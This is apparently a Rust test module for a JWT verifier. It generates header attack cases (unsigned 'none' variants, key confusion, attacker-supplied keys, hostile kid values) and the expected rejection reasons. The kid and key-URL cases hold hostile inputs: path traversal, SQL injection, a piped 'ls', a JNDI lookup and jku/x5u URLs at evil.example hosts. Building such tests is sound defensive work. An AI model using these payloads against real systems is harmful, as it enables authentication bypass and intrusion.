//! Attacks through the header: algorithms, keys brought along, extensions.

use ring::hmac;
use ring::signature::{
    RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256, RSA_PSS_SHA384, RSA_PSS_SHA512, RsaEncoding,
};

use crate::support::*;
use crate::{Case, case, with_header};

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    cases.extend(no_algorithm());
    cases.extend(public_key_as_secret());
    cases.extend(other_algorithms());
    cases.extend(keys_brought_along());
    cases.extend(kids());
    cases.extend(extensions());
    cases
}

fn no_algorithm() -> Vec<Case> {
    let mut cases = Vec::new();
    let spellings = (0..16).map(|bits: u32| {
        let letter = |(place, letter): (usize, char)| match bits >> place & 1 {
            1 => letter.to_ascii_uppercase(),
            _ => letter,
        };
        "none".chars().enumerate().map(letter).collect::<String>()
    });
    let others = [
        "",
        " ",
        "none ",
        " none",
        "no\\u006ee",
        "none\\u0000",
        "non\\u0435",
        "null",
        "RS256,none",
    ];
    for alg in spellings.chain(others.map(String::from)) {
        let header = format!(r#"{{"alg":"{alg}","kid":"k"}}"#);
        let input = format!("{}.{}", b64(header.as_bytes()), b64(claims("").as_bytes()));
        cases.push(case(
            format!("alg {alg:?} unsigned"),
            format!("{input}."),
            "algorithm",
        ));
        cases.push(case(
            format!("alg {alg:?} with a signature"),
            with_header(&header),
            "algorithm",
        ));
    }
    for (name, alg) in [
        ("null", "null"),
        ("true", "true"),
        ("a number", "256"),
        ("an array", r#"["RS256"]"#),
        ("an object", r#"{"RS256":1}"#),
    ] {
        let header = format!(r#"{{"alg":{alg},"kid":"k"}}"#);
        cases.push(case(
            format!("alg is {name}"),
            with_header(&header),
            "malformed header",
        ));
    }
    cases.push(case("no alg", with_header(r#"{"kid":"k"}"#), "malformed header"));
    cases.push(case("an empty header", with_header("{}"), "malformed header"));
    cases
}

fn public_key_as_secret() -> Vec<Case> {
    let key = TestKey::a();
    let pkcs1 = key.pkcs1();
    let spki = key.spki();
    let wrapped = wrap(&spki);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{wrapped}-----END PUBLIC KEY-----");
    let secrets = [
        ("the modulus", key.n()),
        ("PKCS#1 DER", pkcs1),
        ("SPKI in base64", standard(&spki).into_bytes()),
        ("SPKI DER", spki),
        ("PEM", pem.clone().into_bytes()),
        ("PEM and a newline", format!("{pem}\n").into_bytes()),
        ("the JWK", key.jwk("k").into_bytes()),
        ("nothing", Vec::new()),
    ];
    let algorithms = [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
    ];
    let mut cases = Vec::new();
    for (name, secret) in secrets {
        for (alg, algorithm) in algorithms {
            let sign = |alg: &str| {
                let header = format!(r#"{{"alg":"{alg}","kid":"k"}}"#);
                let input = format!("{}.{}", b64(header.as_bytes()), b64(claims("").as_bytes()));
                let tag = hmac::sign(&hmac::Key::new(algorithm, &secret), input.as_bytes());
                format!("{input}.{}", b64(tag.as_ref()))
            };
            cases.push(case(
                format!("{alg} with {name} as secret"),
                sign(alg),
                "algorithm",
            ));
            cases.push(case(
                format!("{alg} with {name} as secret under RS256"),
                sign("RS256"),
                "key size",
            ));
        }
    }
    cases
}

fn other_algorithms() -> Vec<Case> {
    let signed: [(&str, &'static dyn RsaEncoding); 5] = [
        ("RS384", &RSA_PKCS1_SHA384),
        ("RS512", &RSA_PKCS1_SHA512),
        ("PS256", &RSA_PSS_SHA256),
        ("PS384", &RSA_PSS_SHA384),
        ("PS512", &RSA_PSS_SHA512),
    ];
    let mut cases = Vec::new();
    for (alg, encoding) in signed {
        let sign = |alg: &str| {
            let header = format!(r#"{{"alg":"{alg}","kid":"k"}}"#);
            let input = format!("{}.{}", b64(header.as_bytes()), b64(claims("").as_bytes()));
            let signature = TestKey::a().sign_with(encoding, input.as_bytes());
            format!("{input}.{}", b64(&signature))
        };
        cases.push(case(format!("{alg}, genuine"), sign(alg), "algorithm"));
        cases.push(case(format!("{alg} under RS256"), sign("RS256"), "signature"));
        let header = format!(r#"{{"alg":"{alg}","kid":"k"}}"#);
        cases.push(case(
            format!("RS256 under {alg}"),
            with_header(&header),
            "algorithm",
        ));
    }
    for alg in [
        "rs256", "Rs256", "RS256 ", " RS256", "RS-256", "RS1", "RS2560", "RSA", "ES256", "ES256K", "EdDSA",
        "RSA1_5", "RSA-OAEP", "dir", "*",
    ] {
        let header = format!(r#"{{"alg":"{alg}","kid":"k"}}"#);
        cases.push(case(
            format!("RS256 under {alg:?}"),
            with_header(&header),
            "algorithm",
        ));
    }
    cases.push(case(
        "alg spelled with an escape",
        with_header(r#"{"\u0061lg":"RS25\u0036","kid":"k"}"#),
        "accepted",
    ));
    cases
}

/// The attacker signs with a key of his own and brings it along.
fn keys_brought_along() -> Vec<Case> {
    let own = TestKey::b();
    let jwk = own.jwk("k");
    let mut cases = Vec::new();
    for (name, member) in [
        ("jwk", format!(r#""jwk":{jwk}"#)),
        ("jku", r#""jku":"https://evil.example/jwks""#.to_owned()),
        (
            "jku at home",
            r#""jku":"https://va.sentinel.liveperson.net.evil.example/jwks""#.to_owned(),
        ),
        ("x5u", r#""x5u":"https://evil.example/cert""#.to_owned()),
        ("x5c", format!(r#""x5c":["{}"]"#, standard(&own.spki()))),
        ("x5t", r#""x5t":"AAAA","x5t#S256":"AAAA""#.to_owned()),
        ("a key set", format!(r#""keys":[{jwk}]"#)),
    ] {
        let named = format!(r#"{{"alg":"RS256","kid":"k",{member}}}"#);
        let nameless = format!(r#"{{"alg":"RS256",{member}}}"#);
        let elsewhere = format!(r#"{{"alg":"RS256","kid":"mine",{member}}}"#);
        let sign = |header: &str| own.token(header, &claims(""));
        cases.push(case(
            format!("{name} under a known kid"),
            sign(&named),
            "signature",
        ));
        cases.push(case(
            format!("{name} without a kid"),
            sign(&nameless),
            "unknown key",
        ));
        cases.push(case(
            format!("{name} under its own kid"),
            sign(&elsewhere),
            "unknown key",
        ));
        cases.push(case(
            format!("{name} in a genuine token"),
            with_header(&named),
            "accepted",
        ));
    }
    cases
}

fn kids() -> Vec<Case> {
    let mut cases = Vec::new();
    for kid in [
        "",
        " k",
        "k ",
        "K",
        "../../../dev/null",
        "/etc/passwd",
        "' OR '1'='1",
        "k' UNION SELECT 'x",
        "k|ls",
        "k\\u0000",
        "k\\n",
        "http://evil.example/key",
        "\\u043a",
        "${jndi:ldap://evil.example}",
    ] {
        cases.push(case(
            format!("kid {kid:?}"),
            with_header(&header(kid)),
            "unknown key",
        ));
    }
    let long = "k".repeat(8000);
    cases.push(case(
        "a kid of 8000 bytes",
        with_header(&header(&long)),
        "unknown key",
    ));
    for (name, kid) in [
        ("null", "null"),
        ("0", "a number"),
        ("[\"k\"]", "an array"),
        ("{}", "an object"),
    ] {
        let header = format!(r#"{{"alg":"RS256","kid":{name}}}"#);
        cases.push(case(
            format!("kid is {kid} {name}"),
            with_header(&header),
            "malformed header",
        ));
    }
    cases.push(case(
        "kid spelled with an escape",
        with_header(r#"{"alg":"RS256","kid":"\u006b"}"#),
        "accepted",
    ));
    cases.push(case("no kid", with_header(r#"{"alg":"RS256"}"#), "unknown key"));
    cases
}

fn extensions() -> Vec<Case> {
    let mut cases = Vec::new();
    for crit in [
        r#"["exp"]"#,
        "[]",
        r#""exp""#,
        "null",
        r#"["b64"]"#,
        "7",
        "{}",
        "true",
        r#"["alg"]"#,
    ] {
        let header = format!(r#"{{"alg":"RS256","kid":"k","crit":{crit}}}"#);
        cases.push(case(
            format!("crit {crit}"),
            with_header(&header),
            "critical header",
        ));
    }
    let escaped = r#"{"alg":"RS256","kid":"k","cri\u0074":["exp"]}"#;
    cases.push(case(
        "crit spelled with an escape",
        with_header(escaped),
        "critical header",
    ));
    let with_b64 = r#"{"alg":"RS256","kid":"k","b64":false,"crit":["b64"]}"#;
    cases.push(case(
        "b64 false, critical",
        with_header(with_b64),
        "critical header",
    ));
    // Without `crit` a member that is not understood is ignored (RFC 7515 §4), and the payload is base64url as ever.
    for b64 in ["true", "false", "null"] {
        let header = format!(r#"{{"alg":"RS256","kid":"k","b64":{b64}}}"#);
        cases.push(case(
            format!("b64 {b64}, not critical"),
            with_header(&header),
            "accepted",
        ));
    }
    let header = r#"{"alg":"RS256","kid":"k","b64":false}"#;
    let input = format!("{}.{}", b64(header.as_bytes()), claims(""));
    let raw = format!("{input}.{}", b64(&TestKey::a().sign(input.as_bytes())));
    // The payload's own dot is a fourth part.
    cases.push(case("b64 false, raw payload", raw, "malformed"));
    for (name, member) in [
        ("zip", r#""zip":"DEF""#),
        ("cty JWT", r#""cty":"JWT""#),
        ("enc", r#""enc":"A256GCM""#),
        ("typ at+jwt", r#""typ":"at+jwt""#),
        ("a null", r#""whatever":null"#),
    ] {
        let header = format!(r#"{{"alg":"RS256","kid":"k",{member}}}"#);
        cases.push(case(
            format!("{name} in a genuine token"),
            with_header(&header),
            "accepted",
        ));
    }
    cases.push(case(
        "typ is a number",
        with_header(r#"{"alg":"RS256","kid":"k","typ":1}"#),
        "malformed header",
    ));
    cases
}

fn wrap(der: &[u8]) -> String {
    let text = standard(der);
    text.as_bytes()
        .chunks(64)
        .map(|line| format!("{}\n", String::from_utf8_lossy(line)))
        .collect()
}
